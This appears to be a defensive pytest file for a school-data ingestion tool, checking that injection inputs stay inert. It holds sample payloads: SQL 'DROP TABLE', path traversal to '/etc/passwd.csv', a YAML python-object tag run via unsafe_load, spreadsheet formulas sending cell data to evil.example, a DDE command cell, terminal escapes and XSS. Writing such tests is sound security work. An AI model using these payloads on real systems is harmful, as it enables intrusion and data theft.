"""Attack 19: SQL, path, template, YAML-tag and formula injection in mappings, file names and CSV cells are inert.

Each attack is first shown to work where the defence is absent.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from datetime import date
from pathlib import Path

import openpyxl
import pytest
import yaml
from rich.console import Console

from experiments.reading import sheet
from node.column_rules import FromRule, at_week
from node.ingest import examine, ingest
from node.mapping_document import read_mapping
from node.people.pseudonym_key import PseudonymKey
from node.people.pseudonyms import FILE, Pseudonyms
from node.quality.overview import overview
from node.quality.page import page
from node.quality.text import render
from node.store import Store
from shared_schema import DocumentError, load_schema

KEY = PseudonymKey(b"k" * 32)
SCHEMA = load_schema()
SQL = "x'); DROP TABLE student; --"
FORMULA = '=HYPERLINK("http://evil.example?"&A1;"klik")'
MAPPING = """mapping: 1
layout: test
title: {nl: t, en: t}
sources: {s: {file: s.csv}}
identifier: {column: nr}
tables:
  enrolment:
    source: s
    columns: {enrolment_id: volg, team: team}
"""


def school(folder: Path, rows: list[list[str]], mapping: str = MAPPING) -> Path:
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows(rows)
    (folder / "s.csv").write_text(text.getvalue(), encoding="utf-8")
    (folder / "m.yaml").write_text(mapping, encoding="utf-8")
    return folder


# SQL --------------------------------------------------------------------------------------------------------------


def test_defence_off_sql_in_a_student_number_drops_the_table() -> None:
    """Control: pasted into a statement, the cell does what it says."""
    connection = sqlite3.connect(":memory:")
    connection.executescript(f"CREATE TABLE student (p TEXT); INSERT INTO student VALUES ('{SQL}')".rstrip("')"))
    with pytest.raises(sqlite3.OperationalError, match="no such table"):
        connection.execute("SELECT * FROM student")


def test_sql_in_numbers_cells_and_names_is_text(tmp_path: Path) -> None:
    """As student number, enrolment number, team, file folder and linked pseudonym: stored as text, nothing dropped."""
    folder = tmp_path / "a'; DROP TABLE student; --"
    folder.mkdir()
    school(folder, [["nr", "volg", "team"], [SQL, SQL, SQL], ["2", "1", "Zorg"]])
    ingest(folder, folder / "m.yaml", folder / "data", KEY, SCHEMA)
    assert Store.open(folder / "data").tables()["enrolment"]["team"].tolist() == [SQL, "Zorg"]
    with Pseudonyms.open(folder / "data") as pseudonyms:
        pseudonyms.register({SQL: 2023})
        pseudonyms.link(SQL, f"{SQL}2")
        assert pseudonyms.cohorts_of([SQL, f"{SQL}2"]) == {SQL: 2023, f"{SQL}2": 2023}
    assert sqlite3.connect(folder / "data" / FILE).execute("SELECT count(*) FROM student").fetchone() == (3,)


# Paths ------------------------------------------------------------------------------------------------------------


def test_defence_off_a_path_in_a_pattern_leaves_the_folder(tmp_path: Path) -> None:
    """Control: a folder's own glob follows ../ to a neighbour."""
    (tmp_path / "secret.csv").write_text("a\n1\n")
    (tmp_path / "exports").mkdir()
    assert list((tmp_path / "exports").glob("../secret.csv"))


@pytest.mark.parametrize(
    "name",
    [
        "../secret.csv",
        "/etc/passwd.csv",
        "..\\secret.csv",
        "a/../../secret.csv",
        "**/s.csv",
        "http://x/s.csv",
        "s.csv\n",
        "~/s.csv",
    ],
)
def test_a_path_in_a_mapping_is_refused(tmp_path: Path, name: str) -> None:
    """A mapping names files of its own folder, and nothing else."""
    with pytest.raises(DocumentError, match="without a path"):
        read_mapping(MAPPING.replace("s.csv", f'"{name}"'.replace("\\", "\\\\").replace("\n", "\\n")))


@pytest.mark.parametrize("table", ["../../evil", "person/../../evil", "evil"])
def test_a_table_name_never_becomes_a_path(tmp_path: Path, table: str) -> None:
    """Tables are those of the schema, so no file is written under another name."""
    school(tmp_path, [["nr", "volg", "team"], ["1", "1", "a"]], MAPPING.replace("enrolment:", f'"{table}":'))
    with pytest.raises(Exception, match="no table"):
        ingest(tmp_path, tmp_path / "m.yaml", tmp_path / "data", KEY, SCHEMA)
    assert not list(tmp_path.rglob("*.parquet")) and not list(tmp_path.parent.glob("evil*"))


# Templates --------------------------------------------------------------------------------------------------------

TEMPLATE = "W{week.__class__.__mro__}{week:>9999999}{0}"


def test_defence_off_a_template_reaches_into_objects() -> None:
    """Control: str.format walks attributes and fills memory on demand."""
    assert "<class 'object'>" in f"W{(1).__class__.__mro__}"


def test_only_the_word_week_is_filled_in() -> None:
    """Everything else in braces is part of a column's name."""
    rule = at_week(FromRule.model_validate({"from": TEMPLATE + "{week}"}), 7)
    assert isinstance(rule, FromRule) and rule.from_ == TEMPLATE + "7"


# YAML -------------------------------------------------------------------------------------------------------------


def test_defence_off_a_yaml_tag_runs_code(tmp_path: Path) -> None:
    """Control: the unsafe loader makes the file that the tag asks for."""
    yaml.unsafe_load(f"!!python/object/apply:os.mkdir ['{tmp_path}/made']")
    assert (tmp_path / "made").is_dir()


@pytest.mark.parametrize(
    "attack",
    [
        "title: !!python/object/apply:os.mkdir ['{folder}/made']",
        "title: &a {{nl: t, en: t}}\nnotes: *a",
        "title: {{nl: t, en: t, <<: {{x: y}}}}",
        "title: {{nl: t, en: t}}\ntitle: {{nl: u, en: u}}",
        "title: {{nl: t, en: t}}\n__class__: x",
    ],
)
def test_tags_anchors_merges_and_doubles_are_refused(tmp_path: Path, attack: str) -> None:
    """A mapping is plain data; nothing is made, referred to or overwritten."""
    with pytest.raises(DocumentError):
        read_mapping(MAPPING.replace("title: {nl: t, en: t}", attack.format(folder=tmp_path)))
    assert not (tmp_path / "made").exists()


@pytest.mark.parametrize(
    "rule",
    ["{compute: __import__}", "{compute: eval, columns: [x]}", "{from: x, map: 'lambda: 1'}", "{constant: {a: b}}"],
)
def test_there_is_no_door_to_code_in_a_rule(rule: str) -> None:
    """The list of computations is closed."""
    with pytest.raises(DocumentError):
        read_mapping(MAPPING.replace("team: team", f"team: {rule}"))


def test_nesting_without_end_is_refused() -> None:
    """A rule in a rule in a rule …: the document's depth is bounded before anything recurses."""
    rule = "x"
    for _ in range(60):
        rule = f"{{compute: first_of, columns: [{rule}]}}"
    with pytest.raises(DocumentError):
        read_mapping(MAPPING.replace("team: team", f"team: {rule}"))


# Cells ------------------------------------------------------------------------------------------------------------


def test_formulas_in_cells_stay_text_and_stay_inside(tmp_path: Path) -> None:
    """A formula in a cell is stored as the text it is; in the report, on screen or as data, it is nowhere."""
    school(
        tmp_path,
        [["nr", "volg", "team"], ["1", "1", FORMULA], ["2", "1", "@SUM(1)"], ["3", "1", "+1+cmd|'/C calc'!A0"]],
    )
    done = ingest(tmp_path, tmp_path / "m.yaml", tmp_path / "data", KEY, SCHEMA)
    assert Store.open(tmp_path / "data").tables()["enrolment"]["team"].tolist()[0] == FORMULA
    assert "HYPERLINK" not in str(done.quality.plain())


def test_a_formula_in_a_workbook_is_never_calculated(tmp_path: Path) -> None:
    """Control: the file holds a formula. Intake reads stored values only, and this cell has none."""
    book = openpyxl.Workbook()
    book.active.append(["nr", "volg", "team"])
    book.active.append(["1", "1", '=WEBSERVICE("http://evil.example")'])
    book.save(tmp_path / "s.xlsx")
    assert openpyxl.load_workbook(tmp_path / "s.xlsx").active["C2"].value.startswith("=")
    (tmp_path / "m.yaml").write_text(MAPPING.replace("s.csv", "s.xlsx"))
    made = examine(tmp_path, tmp_path / "m.yaml", KEY, SCHEMA)
    assert made.tables["enrolment"]["team"].isna().all()


def test_names_of_columns_neither_colour_nor_move_the_screen(tmp_path: Path) -> None:
    """Markup and escape sequences in a header reach the operator as plain marks."""
    evil = "\x1b[2Jschoon[red]\r"
    school(tmp_path, [["nr", "volg", "team", evil], ["1", "1", "a", "b"]])
    out = io.StringIO()
    seen = overview(examine(tmp_path, tmp_path / "m.yaml", KEY, SCHEMA).quality.plain(), SCHEMA)
    render(seen, Console(file=out, width=200))
    assert "schoon[red]" in out.getvalue()
    assert "\x1b" not in out.getvalue() and "\r" not in out.getvalue()


def test_a_column_name_runs_nothing_on_the_quality_page(tmp_path: Path) -> None:
    """The page shows a column, a file and a school called after a script letter by letter."""
    evil = "<script>alert(1)</script>"
    school(tmp_path, [["nr", "volg", "team", evil], ["1", "1", "a", "b"]])
    seen = overview(examine(tmp_path, tmp_path / "m.yaml", KEY, SCHEMA).quality.plain(), SCHEMA)
    html = sheet.render(page(seen, evil, date(2026, 11, 27), SCHEMA), "nl", "quality")
    assert "<script" not in html and html.count("&lt;script&gt;alert(1)") > 3


def test_a_cell_of_megabytes_is_refused_without_showing_it(tmp_path: Path) -> None:
    """An unclosed quote swallows the file: one error, no cell in it."""
    (tmp_path / "s.csv").write_text('nr;volg;team\n1;1;"' + "GEHEIM" * 50_000)
    (tmp_path / "m.yaml").write_text(MAPPING)
    with pytest.raises(Exception, match="Quotes open and close") as caught:
        examine(tmp_path, tmp_path / "m.yaml", KEY, SCHEMA)
    assert "GEHEIM" not in str(caught.value)
